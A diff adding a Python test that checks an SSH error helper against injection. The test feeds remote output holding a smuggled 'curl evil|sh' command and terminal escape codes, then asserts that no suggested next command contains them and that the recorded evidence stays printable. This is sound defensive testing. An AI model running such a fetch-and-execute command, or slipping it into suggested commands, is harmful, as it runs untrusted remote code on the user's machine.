@@ -52,6 +52,14 @@ def test_each_way_of_failing_has_its_next_command(code: int, said: str, message:
     assert said.splitlines()[-1].strip() in error.evidence
 
 
+def test_what_a_machine_says_becomes_no_command_and_moves_no_cursor() -> None:
+    said = "ssh-keygen -f x -R h; curl evil|sh\n\x1b[2Jidentification has changed\x07"
+    error = unreachable(REACH, 255, said)
+    assert not any("evil" in step for step in error.next)
+    assert error.evidence.endswith("[2Jidentification has changed")
+    assert error.evidence.replace("\n", "").isprintable()
+
+
 def test_a_machine_of_vagrants_is_started_by_vagrant() -> None:
     error = unreachable(REACH._replace(vagrant=True), 255, "ssh: connect to host x port 22: No route to host")
     assert error.next == ("vagrant status", "vagrant up node-1")
